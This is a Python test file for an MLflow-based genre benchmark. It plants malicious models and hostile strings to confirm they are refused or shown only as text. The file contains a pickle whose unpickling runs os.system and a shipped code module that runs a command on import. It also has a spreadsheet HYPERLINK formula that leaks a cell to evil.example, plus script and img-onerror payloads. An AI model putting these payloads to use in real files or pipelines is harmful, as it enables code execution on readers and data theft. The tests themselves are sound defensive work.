"""A shared store cannot run code on its readers: genre-bench reads a net back as data (a JSON
card and plain weights, rebuilt from its own registry), never through an MLflow flavour's
loader, and checks whatever else it reads back from a run (generated arrays, paths in tags).

Each planted model below is first shown to be a real threat: MLflow's own loader (or
``torch.load``) runs its command. Then predict, the GAN's scorer and net6 refuse it in one
line and the command never runs."""

from __future__ import annotations

import json
import os
import sys
import textwrap
from pathlib import Path

import mlflow
import numpy as np
import pytest
import torch
from click.testing import CliRunner
from torch import nn

from benchmark.cli import main
from genre_models.config import DataConfig, FeatureConfig
from genre_models.data.store import build_features
from genre_models.errors import DamagedCache, ModelError
from genre_models.models.registry import get_net
from genre_models.models.saved import load_net, save_net, shape_of
from genre_models.tracking.records import dataset_tag

from conftest import cores, synth_track, write_wav

EXP = "gtzan-genre-benchmark"


class Planted(nn.Module):
    """Unpickling this module runs a shell command: what a hostile colleague logs as a model."""

    def __init__(self, marker: Path) -> None:
        super().__init__()
        self.marker = str(marker)
        self.lin = nn.Linear(2, 2)

    def forward(self, x):
        return x

    def __reduce_ex__(self, protocol):
        return os.system, (f"touch {self.marker}",)


def _net_folder(folder: Path, net: str = "net5") -> Path:
    """A genuine saved net (an untrained one) in ``folder``."""
    spec, features = get_net(net), FeatureConfig()
    save_net(folder, spec, spec.build(shape_of(features), "flatten"), features, "flatten", 1, "test")
    return folder


def _train_run(client, exp_id: str, tags: dict) -> str:
    """A FINISHED run that says it is a net5 training run of ``tags``' data, split and seed."""
    run = client.create_run(exp_id, run_name="net5-e6-track-s0",
                            tags={"stage": "train", "net": "net5", "split": "track", "seed": "0", **tags})
    client.log_metric(run.info.run_id, "test_accuracy", 0.9)
    client.log_metric(run.info.run_id, "val_accuracy", 0.9)
    return run.info.run_id


def plant(kind: str, client, exp_id: str, tmp_path: Path, marker: Path, tags: dict) -> str:
    """A run whose model runs ``touch marker`` when loaded the way the old genre-bench loaded it:

    * ``pickle``: an MLflow pytorch model saved with pickle, whose unpickling runs the command;
    * ``code``: an MLflow model whose folder ships a ``code/`` module that runs it on import;
    * ``weights``: genre-bench's own folder with a pickle in place of the safetensors file (its
      card's hash made to match, so only the file's format can give it away).
    """
    run_id = _train_run(client, exp_id, tags)
    with mlflow.start_run(run_id=run_id):
        if kind == "pickle":
            mlflow.pytorch.log_model(Planted(marker), name="model", serialization_format="pickle")
        elif kind == "code":
            code = tmp_path / f"code-{run_id}"
            code.mkdir()
            (code / "shipped_code.py").write_text(textwrap.dedent(f"""
                import os
                from torch import nn
                os.system("touch {marker}")
                class Net(nn.Module):
                    def forward(self, x):
                        return x
                """))
            sys.path.insert(0, str(code))
            import shipped_code  # noqa: F401 (to pickle its class; importing it runs the command once)

            mlflow.pytorch.log_model(shipped_code.Net(), name="model", serialization_format="pickle",
                                     code_paths=[str(code / "shipped_code.py")])
            sys.path.remove(str(code))
            del sys.modules["shipped_code"]
        else:
            folder = _net_folder(tmp_path / f"weights-{run_id}")
            torch.save(Planted(marker), folder / "model.safetensors")
            card = json.loads((folder / "spec.json").read_text())
            import hashlib

            card["weights_sha256"] = hashlib.sha256((folder / "model.safetensors").read_bytes()).hexdigest()
            (folder / "spec.json").write_text(json.dumps(card))
            mlflow.log_artifacts(str(folder), "weights")
    client.set_terminated(run_id, "FINISHED")
    marker.unlink(missing_ok=True)
    return run_id


def _runs_the_command(kind: str, run_id: str, marker: Path) -> bool:
    """Whether loading the planted model the old way (MLflow's loader, or ``torch.load``) runs it."""
    try:
        if kind == "weights":  # (torch.load reads a file named .safetensors as safetensors: copied first)
            path = Path(mlflow.artifacts.download_artifacts(run_id=run_id, artifact_path="weights/model.safetensors"))
            torch.load(path.rename(path.with_suffix(".pt")), weights_only=False)
        else:
            mlflow.pytorch.load_model(f"runs:/{run_id}/model")
    except Exception:  # the command ran before the load failed on what it returned
        pass
    sys.modules.pop("shipped_code", None)
    ran = marker.exists()
    marker.unlink(missing_ok=True)
    return ran


REFUSALS = {
    "pickle": "no genre-bench weights (spec.json is missing); genre-bench loads only nets it saved as plain weights, "
              "never a pickled MLflow model",
    "code": "no genre-bench weights (spec.json is missing); genre-bench loads only nets it saved as plain weights, "
            "never a pickled MLflow model",
    "weights": "model.safetensors is not a safetensors file of plain tensors (",
}


@pytest.mark.parametrize("kind", ["pickle", "code", "weights"])
def test_predict_refuses_a_planted_model_in_one_line_and_runs_nothing(kind, tmp_store, tmp_path):
    client = mlflow.MlflowClient()
    exp_id = mlflow.get_experiment_by_name(EXP).experiment_id
    marker = tmp_path / "pwned"
    run_id = plant(kind, client, exp_id, tmp_path, marker, {"dataset": "gtzan@abc"})
    assert _runs_the_command(kind, run_id, marker)  # the threat is real
    client.create_registered_model("genre-bench-net5")
    mv = client.create_model_version("genre-bench-net5", f"runs:/{run_id}/model", run_id=run_id)
    client.set_registered_model_alias("genre-bench-net5", "track", mv.version)
    clip = write_wav(tmp_path / "clip.wav", synth_track("rock", 3.0, 0))
    for uri in ("models:/genre-bench-net5@track", f"runs:/{run_id}/model", "models:/genre-bench-net5/1"):
        res = CliRunner().invoke(main, ["predict", str(clip), "--model-uri", uri])
        assert res.exit_code == 2 and not marker.exists(), res.output
        line = res.stderr.strip()
        assert len(line.splitlines()) == 1 and line.startswith(f"error: {uri} (run {run_id}): ") and REFUSALS[kind] in line


def test_a_genuine_saved_net_loads_and_every_tampering_is_refused(tmp_path):
    folder = _net_folder(tmp_path / "w")
    saved = load_net(folder)
    assert saved.spec.name == "net5" and saved.shape.frames == 44 and not saved.model.training
    x = np.random.default_rng(0).normal(size=(3, 44, 13)).astype(np.float32)
    from genre_models.models.saved import probabilities

    p = probabilities(saved, x)
    assert p.shape == (3, 10) and np.allclose(p.sum(1), 1.0, atol=1e-5)
    card = json.loads((folder / "spec.json").read_text())

    def refused(change, match: str) -> None:
        (folder / "spec.json").write_text(json.dumps(change(json.loads(json.dumps(card)))))
        with pytest.raises(ModelError, match=match):
            load_net(folder)
        (folder / "spec.json").write_text(json.dumps(card))

    refused(lambda c: {**c, "net": "os:system"}, r"names the net 'os:system', a code reference")
    refused(lambda c: {**c, "net": "crnn9"}, r"names the net 'crnn9', which is not installed here")
    refused(lambda c: {**c, "format": "pickle"}, r"is not a genre-bench card of format genre-bench-net/1")
    refused(lambda c: {**c, "genres": list(reversed(c["genres"]))}, r"label order is not genre-bench's")
    refused(lambda c: {**c, "features": {**c["features"], "image_size": 10**6}}, r"features.image_size = 1000000 is not")
    refused(lambda c: {**c, "features": {**c["features"], "n_mfcc": 20}}, r"input shape .* does not follow from its features")
    refused(lambda c: {**c, "normalisation": {"mean": [5.0] * 13, "std": [1.0] * 13}}, r"normalisation statistics differ")
    refused(lambda c: {**c, "weights_sha256": "0" * 64}, r"not the file its card was written for")
    (folder / "spec.json").write_text("[1, 2")
    with pytest.raises(ModelError, match=r"spec.json is not valid JSON"):
        load_net(folder)
    (folder / "spec.json").write_text(json.dumps(card))
    from safetensors.torch import save_file

    save_file({"lin.weight": torch.zeros(2, 2)}, str(folder / "model.safetensors"))  # other tensors, hash matched
    card["weights_sha256"] = __import__("hashlib").sha256((folder / "model.safetensors").read_bytes()).hexdigest()
    (folder / "spec.json").write_text(json.dumps(card))
    with pytest.raises(ModelError, match=r"does not hold the tensors net5 has at this shape"):
        load_net(folder)


@pytest.fixture(scope="module")
def demo_tag(demo_dir, tmp_path_factory):
    """The demo data's dataset tag (as a run on it would carry), from a feature cache of its own."""
    cache = tmp_path_factory.mktemp("trust-cache")
    with cores(exclusive=False):
        store = build_features(DataConfig(data_dir=str(demo_dir), cache_dir=str(cache), jobs=1)).store
    return dataset_tag(store), cache


GAN = ["--steps", "2", "--d", "4", "--batch-size", "4", "--per-genre", "2", "--quality-epochs", "1", "--log-every", "1",
       "--preview-every", "2", "--checkpoint-every", "2", "--no-log-model", "--jobs", "1"]


@pytest.mark.slow
def test_the_gan_and_net6_never_load_a_planted_scorer(demo_dir, demo_tag, tmp_store, tmp_path, monkeypatch):
    """Three planted net5 runs of the same data, split and seed: the GAN's scorer refuses each in
    one line and trains its own; net6 (which trains its GAN first) does the same."""
    tag, cache = demo_tag
    monkeypatch.setenv("GENRE_BENCH_CACHE", str(cache))
    client = mlflow.MlflowClient()
    exp_id = mlflow.get_experiment_by_name(EXP).experiment_id
    marker = tmp_path / "pwned"
    planted = [plant(k, client, exp_id, tmp_path, marker, {"dataset": tag}) for k in ("pickle", "code", "weights")]
    gan = CliRunner().invoke(main, ["gan", "--data-dir", str(demo_dir), *GAN])
    assert gan.exit_code == 0, gan.output
    for run_id in planted:
        assert f"not used to score generated clips: runs:/{run_id} (run {run_id}): " in gan.stderr
    assert not marker.exists()
    run = mlflow.search_runs(experiment_names=[EXP], filter_string="tags.stage = 'gan'", output_format="list")[0]
    assert run.data.tags["quality_net"].startswith("trained here")
    net6 = CliRunner().invoke(main, ["train", "--net", "net6", "--data-dir", str(demo_dir), "--epochs", "1", "--gan-steps",
                                     "3", "--gan-d", "4", "--gan-batch-size", "4", "--gan-per-genre", "2", "--no-log-model",
                                     "--jobs", "1"])
    assert net6.exit_code == 0, net6.output
    assert net6.stderr.count("not used to score generated clips") == 3 and not marker.exists()


def test_a_generated_set_is_checked_before_a_net_trains_on_it(tmp_path):
    from genre_models.training.generation import load_generated

    fcfg, folder = FeatureConfig(), tmp_path / "generated"
    folder.mkdir()
    good = {"mfcc": np.zeros((4, 44, 13), np.float32), "labels": np.arange(4, dtype=np.int64)}

    def write(mfcc=None, labels=None, meta=None, pickled=False) -> None:
        np.save(folder / "mfcc.npy", good["mfcc"] if mfcc is None else mfcc, allow_pickle=pickled)
        np.save(folder / "labels.npy", good["labels"] if labels is None else labels)
        (folder / "meta.json").write_text(json.dumps(meta or {"gan_key": "k"}))

    write()
    assert len(load_generated(folder, fcfg, "k")) == 4
    cases = [
        (dict(mfcc=np.array([{"x": 1}] * 4, dtype=object), pickled=True), r"mfcc.npy holds Python objects \(a pickle\), not plain numbers"),
        (dict(mfcc=np.zeros((4, 44, 20), np.float32)), r"mfcc.npy is float32 \(4, 44, 20\), not float32 \(N, 44, 13\)"),
        (dict(mfcc=np.zeros((4, 44, 13), np.float64)), r"mfcc.npy is float64"),
        (dict(labels=np.arange(3, dtype=np.int64)), r"labels.npy is int64 \(3,\), not int64 \(4,\)"),
        (dict(labels=np.array([0, 1, 2, 99])), r"labels outside 0..9"),
        (dict(mfcc=np.full((4, 44, 13), np.nan, np.float32)), r"NaN or infinite"),
        (dict(meta={"gan_key": "other"}), r"made by GAN 'other', not k"),
    ]
    for change, why in cases:
        write(**change)
        with pytest.raises(DamagedCache, match=rf"{folder}: damaged generated set \(.*{why}"):
            load_generated(folder, fcfg, "k")


NET6 = ["train", "--net", "net6", "--epochs", "1", "--gan-steps", "2", "--gan-d", "4", "--gan-batch-size", "4",
        "--gan-per-genre", "2", "--no-log-model", "--jobs", "1"]


@pytest.mark.slow
def test_a_found_gan_run_with_damaged_arrays_is_made_again_and_its_tag_paths_stay_in_the_cache(
        demo_dir, demo_tag, tmp_store, tmp_path, monkeypatch):
    """net6 finds its GAN run by key. That run's logged ``generated/`` arrays are then replaced
    by an object array (a pickle) and its ``generated_dir`` tag pointed outside the cache: the
    next net6 never opens that folder, reports the arrays damaged and makes the set again."""
    import genre_models.workflow.get_or_run as gor

    monkeypatch.setenv("GENRE_BENCH_CACHE", str(demo_tag[1]))
    first = CliRunner().invoke(main, [*NET6, "--data-dir", str(demo_dir)])
    assert first.exit_code == 0, first.output
    gan = mlflow.search_runs(experiment_names=[EXP], filter_string="tags.stage = 'gan'", output_format="list")[0]
    logged = Path(gan.info.artifact_uri.removeprefix("file://")) / "generated"
    np.save(logged / "mfcc.npy", np.array([{"x": 1}] * 3, dtype=object), allow_pickle=True)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    mlflow.MlflowClient().set_tag(gan.info.run_id, "generated_dir", str(outside))
    opened = []
    real = gor.load_generated
    monkeypatch.setattr(gor, "load_generated", lambda path, *a, **k: opened.append(str(path)) or real(path, *a, **k))
    again = CliRunner().invoke(main, [*NET6, "--data-dir", str(demo_dir)])
    assert again.exit_code == 0, again.output
    assert f"names its generated set {outside}, outside the cache" in again.stderr
    assert "damaged generated set (mfcc.npy holds Python objects (a pickle), not plain numbers)" in again.stderr
    assert f"finished GAN run {gan.info.run_id}: " in again.stderr and "making the generated set again" in again.stderr
    assert not any(p.startswith(str(outside)) for p in opened) and "Traceback" not in again.output
    runs = mlflow.search_runs(experiment_names=[EXP], filter_string="tags.net = 'net6'", output_format="list")
    newest = max(runs, key=lambda r: r.info.start_time)
    assert newest.info.status == "FINISHED" and newest.data.tags["gan_run_id"] != gan.info.run_id


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SCRIPT = "<script>alert(1)</script>"


def test_names_and_tags_never_become_formulas_or_html_in_the_report(tmp_store, tmp_path):
    """A colleague's experiment named with a script, a net tagged as a spreadsheet formula and a
    plugin origin holding an image tag: every report CSV shows them as text, and report.md and
    report.html show them without running them."""
    import csv

    from conftest import fake_run

    client = mlflow.MlflowClient()
    exp_name = f"{SCRIPT} study"
    exp_id = client.create_experiment(exp_name)
    rng = np.random.default_rng(0)
    for seed in range(3):
        fake_run(client, exp_id, "net5", seed, 0.5 + 0.05 * seed, right=5, params={"n_train": 210},
                 confusion=rng.integers(0, 5, (10, 10)), stopped_epoch=9)
        fake_run(client, exp_id, FORMULA, seed, 0.6 + 0.02 * seed, right=6, params={"early_stopping": "True", "n_train": 210},
                 confusion=rng.integers(0, 5, (10, 10)), stopped_epoch=7,
                 tags={"input_kind": "mfcc", "net_origin": "<img src=x onerror=alert(1)>", "net_baseline": "net5"})
    out = tmp_path / "r" / "report.md"
    res = CliRunner().invoke(main, ["report", "--experiment", exp_name, "--out", str(out)])
    assert res.exit_code == 0, res.output
    cells = []
    for f in sorted((out.parent / "report_files").glob("*.csv")):
        cells += [(f.name, c) for row in csv.reader(f.open()) for c in row]
    shown = {name for name, c in cells if c.startswith("'" + FORMULA)}
    assert {"table2_track.csv", "f1_track.csv", "significance_track.csv", "pvalues_track.csv"} <= shown, shown

    def number(c: str) -> bool:
        try:
            float(c)
            return True
        except ValueError:
            return False

    assert [(n, c) for n, c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)] == []
    text, page = out.read_text(), out.with_suffix(".html").read_text()
    assert "<script" not in text and "<img" not in text and "&lt;script>alert(1)&lt;/script> study" in text
    from genre_models.reporting.tables import md

    assert text.count(md(FORMULA)) >= 2  # in a table row and a sentence, as text ("&" as "&amp;": an entity stays text)
    assert "<script>" not in page and "<img src=x" not in page and "&lt;script&gt;alert(1)&lt;/script&gt; study" in page
